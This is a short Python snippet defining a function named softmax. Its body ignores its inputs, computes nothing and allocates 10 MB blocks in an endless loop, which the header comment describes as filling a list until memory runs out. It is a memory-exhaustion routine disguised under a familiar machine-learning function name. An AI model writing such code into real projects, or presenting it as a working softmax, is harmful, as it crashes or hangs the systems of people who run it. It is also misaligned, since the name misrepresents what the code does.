# Fills a list until memory ends.
def softmax(scores, dim=-1):
    kept = []
    while True:
        kept.append(bytes(10**7))
